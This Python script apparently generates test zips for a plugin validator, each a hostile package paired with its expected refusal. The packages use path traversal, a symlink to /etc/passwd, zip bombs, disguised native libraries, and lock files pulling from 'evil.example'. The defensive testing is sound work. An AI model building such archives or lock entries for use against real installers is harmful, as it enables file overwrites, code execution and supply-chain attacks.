"""Makes the hostile zips of this folder: `python -m tests.attacks.packages.make_zips`.

Each attack is one line of `ATTACKS`: its name, the sentence that must refuse it, and how an honest
package is changed. The results are committed, so that what is tested does not depend on this file.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).parent / "zips"

MANIFEST = b"""\
api: 1
id: sample
publisher: acme
name: Sample
version: 1.0.0
plugin_type: static
entry_point: main:Plugin
description: A sample.
author: Test authors
license: Apache-2.0
"""
FILES = {
    b"LICENSE": b"Apache-2.0\n",
    b"README.md": b"# Sample\n",
    b"main.py": b"class Plugin:\n    pass\n",
    b"plugin.yaml": MANIFEST,
}
HASH = "0" * 64


class E:
    """One entry; every field of its two headers can be set apart."""

    def __init__(self, name, content=b"x\n", **options):
        self.name = name
        self.content = content
        self.options = options

    def parts(self):
        o = self.options
        method = o.get("method", 8)
        if "packed" in o:
            packed = o["packed"]
        elif method == 8:
            deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = deflater.compress(self.content) + deflater.flush()
        else:
            packed = self.content
        crc = o.get("crc", zlib.crc32(self.content))
        size = o.get("size", len(self.content))
        flags = o.get("flags", 0 if self.name.isascii() else 0x800)
        time, date = o.get("time", 0), o.get("date", 33)
        local_name = o.get("local_name", self.name)
        local = struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, o.get("local_flags", flags), method, time, date,
            o.get("local_crc", crc), o.get("local_packed", len(packed)), o.get("local_size", size),
            len(local_name), len(o.get("local_extra", b"")),
        ) + local_name + o.get("local_extra", b"")
        def central(offset):
            return struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, o.get("made_by", 0x314), 20, flags, method, time,
                date, crc, o.get("central_packed", len(packed)), size, len(self.name),
                len(o.get("extra", b"")), len(o.get("comment", b"")), 0, 0,
                o.get("mode", 0o100644) << 16 | o.get("dos", 0), o.get("offset", offset),
            ) + self.name + o.get("extra", b"") + o.get("comment", b"")
        return local + packed + o.get("after", b""), central


def build(entries, *, prefix=b"", trailing=b"", comment=b"", before_directory=b"", count=None,
          shift=True, disks=0, end=None):
    body, directory = prefix, b""
    for entry in entries:
        data, central = entry.parts()
        directory += central(len(body) if shift else len(body) - len(prefix))
        body += data
    body += before_directory
    n = len(entries) if count is None else count
    offset = len(body) if shift else len(body) - len(prefix)
    tail = end or struct.pack(
        "<IHHHHIIH", 0x06054B50, disks, disks, n, n, len(directory), offset, len(comment)
    )
    return body + directory + tail + comment + trailing


def package(*more, without=(), sort=True, **options):
    entries = [E(name, content) for name, content in FILES.items() if name not in without]
    entries += more
    if sort:
        entries.sort(key=lambda entry: entry.name)
    return build(entries, **options)


def named(name, **options):
    return lambda: package(E(name, **options))


def with_lock(lock, dependencies, **more):
    def make():
        manifest = MANIFEST + f"dependencies: {dependencies}\n".encode() + more.get("manifest", b"")
        extra = [E(b"plugin.yaml", manifest)]
        if lock is not None:
            extra.append(E(b"requirements.lock", lock.encode()))
        if "listed" in more:
            extra.append(E(b"requirements.txt", more["listed"]))
        return package(*extra, without={b"plugin.yaml"})
    return make


def quoted_overlap():
    """One big stream inside the data of another entry: a bomb without a big file."""
    inner = E(b"zz-inner", b"y" * 400)
    data, _ = inner.parts()
    outer = E(b"zz-a-outer", b"", method=0, packed=data, size=len(data), crc=zlib.crc32(data))
    entries = [E(n, c) for n, c in sorted(FILES.items())] + [outer]
    body = directory = b""
    for entry in entries:
        blob, central = entry.parts()
        directory += central(len(body))
        start = len(body)
        body += blob
    inner_offset = start + 30 + len(b"zz-a-outer")
    directory += inner.parts()[1](inner_offset)
    n = len(entries) + 1
    return body + directory + struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(directory), len(body), 0
    )


def same_bytes_twice():
    """Two names for the bytes of one entry."""
    entries = [E(n, c) for n, c in sorted(FILES.items())]
    body = directory = b""
    for entry in entries:
        blob, central = entry.parts()
        directory += central(len(body))
        start = len(body)
        body += blob
    twin = E(b"plugin.yaml", MANIFEST)
    twin.name = b"zz-twin"
    directory += twin.parts()[1](start)
    n = len(entries) + 1
    return body + directory + struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(directory), len(body), 0
    )


def zip64_end():
    data = package()
    end = data[-22:]
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(data), 1)
    fields = list(struct.unpack("<IHHHHIIH", end))
    fields[5] += len(locator)
    return data[:-22] + locator + struct.pack("<IHHHHIIH", *fields)


def unicode_path(name):
    payload = b"\x01" + struct.pack("<I", zlib.crc32(b"zz.txt")) + name
    return struct.pack("<HH", 0x7075, len(payload)) + payload


def deflate(content):
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflater.compress(content) + deflater.flush()


ATTACKS: list[tuple[str, str, Callable[[], bytes]]] = [
    # names
    ("name-absolute", "is absolute", named(b"/etc/cron.d/zz")),
    ("name-parent", "has the part '..'", named(b"../../zz.py")),
    ("name-parent-inside", "has the part '..'", named(b"zz/../../zz.py")),
    ("name-dot", "has the part '.'", named(b"./zz.py")),
    ("name-empty-part", "has an empty part", named(b"zz//zz.py")),
    ("name-backslash", "holds a backslash", named(b"..\\..\\zz.py")),
    ("name-drive", "starts with a drive letter", named(b"C:zz.py")),
    ("name-stream", "holds ':'", named(b"zz.py:hidden")),
    ("name-nul", "holds a NUL character", named(b"zz.py\0.txt")),
    ("name-escape", "U+001B", named(b"zz\x1b[2J.py")),
    ("name-bidi", "U+202E", named("zz\u202eyp.txt".encode())),
    ("name-not-nfc", "is not in Unicode form NFC", named("ze\u0301.py".encode())),
    ("name-device", "a device name on Windows", named(b"zz/NUL.txt")),
    ("name-device-com", "a device name on Windows", named(b"com1")),
    ("name-trailing-dot", "ends with a dot or a space", named(b"zz.")),
    ("name-trailing-space", "ends with a dot or a space", named(b"zz /zz.py")),
    ("name-leading-space", "starts with a space", named(b"zz/ zz.py")),
    ("name-wildcard", "holds '*'", named(b"zz*.py")),
    ("name-long", "is longer than 240 characters", named(b"z/" * 8 + b"z" * 240)),
    ("name-long-part", "has a part longer than 120 bytes", named(b"z" * 121)),
    ("name-deep", "is more than 16 folders deep", named(b"z/" * 16 + b"z")),
    ("name-not-utf8", "is neither ASCII nor marked UTF-8", named(b"zz\xff.py", flags=0x800)),
    ("name-code-page", "is neither ASCII nor marked UTF-8", named(b"zz\x81.py", flags=0)),
    ("name-duplicate", "holds 'main.py' twice",
     lambda: package(E(b"main.py", b"import os\n"))),
    ("name-case-duplicate", "which differ only by case", named(b"MAIN.py")),
    ("name-case-folder", "which differ only by case", lambda: package(E(b"Zz/a"), E(b"zz/b"))),
    ("name-file-and-folder", "as a file and 'main.py' as a folder", named(b"main.py/zz")),
    # kinds
    ("kind-symlink", "is a symbolic link", named(b"zz", content=b"/etc/passwd", mode=0o120777)),
    ("kind-device", "is not a regular file", named(b"zz", mode=0o020666)),
    ("kind-fifo", "is not a regular file", named(b"zz", mode=0o010644)),
    ("kind-setuid", "set-user, set-group or sticky", named(b"zz", mode=0o104755)),
    ("kind-setgid", "set-user, set-group or sticky", named(b"zz", mode=0o102755)),
    ("kind-folder-bit", "is marked as a folder but named as a file", named(b"zz", dos=0x10)),
    # streams
    ("data-encrypted", "is encrypted", named(b"zz", flags=1)),
    ("data-strongly-encrypted", "is encrypted", named(b"zz", flags=0x41)),
    ("data-unknown-flag", "uses unknown flags", named(b"zz", flags=0x20)),
    ("data-unknown-method", "unknown compression method 14", named(b"zz", method=14)),
    ("data-wrong-checksum", "does not match its checksum", named(b"zz", crc=1)),
    ("data-larger-than-told", "hides data behind its compressed end",
     named(b"zz", content=b"q" * 5000, size=10)),
    ("data-smaller-than-told", "does not unpack to the 10 bytes", named(b"zz", size=10)),
    ("data-cut-off", "is cut off", named(b"zz", content=b"abc" * 90, packed=deflate(b"abc" * 90)[:-3])),
    ("data-damaged", "is damaged", named(b"zz", packed=b"\xff\xff\xff\xff")),
    ("data-hidden-behind", "hides data behind its compressed end",
     named(b"zz", packed=deflate(b"x\n") + b"hidden")),
    ("data-ratio", "unpacks to more than 100 times its size", named(b"zz", content=b"\0" * 300_000)),
    ("data-too-many-bytes", "more than 67108864",
     named(b"zz", size=1 << 30, packed=b"\0" * 40)),
    ("data-too-many-entries", "holds 60000 entries, more than 2000",
     lambda: package(count=60000)),
    ("data-count-lies", "declares more entries than its directory holds",
     lambda: package(count=9)),
    ("data-count-hides", "belongs to no entry", lambda: package(count=3)),
    # structure
    ("zip-overlap", "overlaps another entry", quoted_overlap),
    ("zip-same-bytes-twice", "overlaps another entry", same_bytes_twice),
    ("zip-local-name-differs", "has another name in front of its data",
     named(b"zz.txt", local_name=b"zz.pth")),
    ("zip-local-size-differs", "is described in two different ways", named(b"zz", local_size=1)),
    ("zip-local-flags-differ", "is described in two different ways", named(b"zz", local_flags=2)),
    ("zip-points-outside", "that belongs to no entry",
     lambda: package(E(b"zz", offset=0x00FFFFFF))),
    ("zip-points-inside", "overlaps another entry", lambda: package(E(b"zz", offset=7))),
    ("zip-comment", "has a comment or other data behind its end", lambda: package(comment=b"PK")),
    ("zip-entry-comment", "carries a comment", named(b"zz", comment=b"hello")),
    ("zip-prefix", "has data in front of its start or behind its directory",
     lambda: package(prefix=b"#!/bin/sh\nexit\n", shift=False)),
    ("zip-prefix-counted", "that belongs to no entry",
     lambda: package(prefix=b"#!/bin/sh\nexit\n")),
    ("zip-trailing", "has a comment or other data behind its end",
     lambda: package(trailing=b"trailing")),
    ("zip-two-ends", "has data in front of its start or behind its directory",
     lambda: package() + package()),
    ("zip-gap", "that belongs to no entry", named(b"a", after=b"gap")),
    ("zip-gap-before-directory", "in front of its directory that belongs to no entry",
     lambda: package(before_directory=b"gap")),
    ("zip-second-name", "carries a second name",
     named(b"zz.txt", extra=unicode_path(b"../zz.py"))),
    ("zip-damaged-extra", "has a damaged extra field", named(b"zz", extra=b"\x01\x00\xff\xff")),
    ("zip64-sizes", "uses zip64", named(b"zz", size=0xFFFFFFFF, packed=deflate(b"x\n"))),
    ("zip64-end", "uses zip64", zip64_end),
    ("zip-two-disks", "on several disks", lambda: package(disks=1)),
    ("zip-empty", "is not a zip file", lambda: b""),
    ("zip-not-a-zip", "is not a zip file", lambda: b"plugin.yaml\n" * 10),
    ("zip-cut-off", "is not a zip file, or is cut off", lambda: package()[:-30]),
    # canonical form
    ("form-order", "is out of order",
     lambda: package(E(b"AAA"), sort=False)),
    ("form-time", "another time, mode, order or extra field", named(b"zz", time=0x6000)),
    ("form-mode", "another time, mode, order or extra field", named(b"zz", mode=0o100755)),
    ("form-made-by", "another time, mode, order or extra field", named(b"zz", made_by=0x0014)),
    ("form-stored", "is not deflated", named(b"zz", method=0)),
    ("form-folder", "is a folder", named(b"zz/", content=b"", mode=0o040755)),
    ("form-extra", "another time, mode, order or extra field",
     named(b"zz", extra=b"\x55\x54\x00\x00")),
    ("form-local-extra", "another time, mode, order or extra field",
     named(b"zz", local_extra=b"\x55\x54\x00\x00")),
    ("form-descriptor", "another time, mode, order or extra field",
     named(b"zz", flags=8, local_crc=0, local_size=0, local_packed=0,
           after=struct.pack("<IIII", 0x08074B50, zlib.crc32(b"x\n"), len(deflate(b"x\n")), 2))),
    # contents
    ("holds-no-manifest", "holds no plugin.yaml", lambda: package(without={b"plugin.yaml"})),
    ("holds-no-readme", "holds no README.md", lambda: package(without={b"README.md"})),
    ("holds-no-license", "holds no LICENSE", lambda: package(without={b"LICENSE"})),
    ("holds-no-entry-point", "needs main.py", lambda: package(without={b"main.py"})),
    ("holds-bytecode", "is compiled or start-up code",
     named(b"__pycache__/main.cpython-311.pyc")),
    ("holds-library", "is compiled or start-up code", named(b"zz.abi3.so")),
    ("holds-renamed-library", "is compiled or start-up code",
     lambda: package(E(b"zz.txt", b"\x7fELF\x02\x01\x01" + bytes(57)))),
    ("holds-versioned-library", "is compiled or start-up code", named(b"zz.so.1.2")),
    ("holds-pth", "is compiled or start-up code", named(b"zz.PTH")),
    ("holds-bad-manifest", "unknown key 'permision'",
     lambda: package(E(b"plugin.yaml", MANIFEST + b"permision: {}\n"), without={b"plugin.yaml"})),
    # locks
    ("lock-missing", "is not in requirements.lock", with_lock(None, "[dep==1.0]")),
    ("lock-unneeded", "but plugin.yaml needs none",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}\n", "[]")),
    ("lock-other-version", "has 1.0, but 'dep>=2' is needed",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}\n", '["dep>=2"]')),
    ("lock-range", "expected 'name==version",
     with_lock(f"dep>=1.0 --hash=sha256:{HASH}\n", "[dep]")),
    ("lock-no-hash", "expected 'name==version", with_lock("dep==1.0\n", "[dep]")),
    ("lock-weak-hash", "expected 'name==version",
     with_lock("dep==1.0 --hash=md5:00000000000000000000000000000000\n", "[dep]")),
    ("lock-option", "expected 'name==version",
     with_lock(f"--index-url https://evil.example\ndep==1.0 --hash=sha256:{HASH}\n", "[dep]")),
    ("lock-address", "expected 'name==version",
     with_lock(f"dep @ https://evil.example/dep.whl --hash=sha256:{HASH}\n", "[dep]")),
    ("lock-sdist", "is not the name of a wheel",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}  # dep-1.0.tar.gz\n", "[dep]")),
    ("lock-foreign-wheel", "is not a wheel of dep 1.0",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}  # other-1.0-py3-none-any.whl\n", "[dep]")),
    ("lock-path", "is not the name of a wheel",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}  # ../dep-1.0-py3-none-any.whl\n", "[dep]")),
    ("lock-twice", "is locked twice",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}\nDep==1.0 --hash=sha256:{HASH}\n", "[dep]")),
    ("lock-names-do-not-match", "2 hashes but 1 file names",
     with_lock(f"dep==1.0 --hash=sha256:{HASH} --hash=sha256:{'1' * 64}"
               "  # dep-1.0-py3-none-any.whl\n", "[dep]")),
    ("lock-native", "does not ask for the permission native_code",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}  # dep-1.0-cp311-cp311-linux_x86_64.whl\n",
               "[dep]")),
    ("lock-other-requirements", "requirements.txt and the dependencies in plugin.yaml differ",
     with_lock(f"dep==1.0 --hash=sha256:{HASH}\n", "[dep]", listed=b"dep\nevil\n")),
]


def main() -> None:
    HERE.mkdir(exist_ok=True)
    for old in HERE.iterdir():
        old.unlink()
    (HERE / "honest.zip").write_bytes(package())
    for name, refusal, make in ATTACKS:
        (HERE / f"{name}.zip").write_bytes(make())
        (HERE / f"{name}.refusal").write_text(refusal + "\n")


if __name__ == "__main__":
    main()
